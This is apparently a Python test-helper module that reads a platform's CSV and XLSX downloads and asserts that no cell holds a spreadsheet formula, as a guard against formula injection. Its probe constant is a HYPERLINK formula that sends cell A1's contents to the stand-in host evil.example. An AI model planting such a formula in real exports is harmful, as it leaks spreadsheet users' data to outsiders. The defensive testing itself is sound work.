"""Reading the platform's CSV and XLSX downloads back in tests, the way a spreadsheet program
would meet them: a formula is either an `<f>` element in a sheet or a cell whose text starts
with one of the formula characters."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from typing import Any

from openpyxl import load_workbook

from council.lib.tables import FORMULA_STARTS

# The name of the probe: a live link that sends the next cell to someone else.
EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"Click")'
NEUTRALISED = "'" + EVIL


def body(response: Any) -> bytes:
    assert response.status_code == 200, response.status_code
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return bytes(response.content)


def csv_rows(response: Any) -> list[list[str]]:
    """The rows of a CSV download; it must start with a byte-order mark."""
    data = body(response)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert_no_formula(rows)
    return rows


def xlsx_rows(response: Any) -> list[list[Any]]:
    """The rows of an XLSX download's first sheet, after checking that no sheet holds a
    formula (`<f>` in its XML, or a cell openpyxl reads as one)."""
    data = body(response)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert_no_formula(rows)
    return rows


NUMBER = re.compile(r"-?\d+(\.\d+)?")


def assert_no_formula(rows: list[list[Any]]) -> None:
    """No text cell starts a formula (a negative number written as a number may)."""
    for row in rows:
        for value in row:
            if isinstance(value, str) and not NUMBER.fullmatch(value):
                assert not value.startswith(FORMULA_STARTS), value


def cells(rows: list[list[Any]]) -> set[Any]:
    return {value for row in rows for value in row}
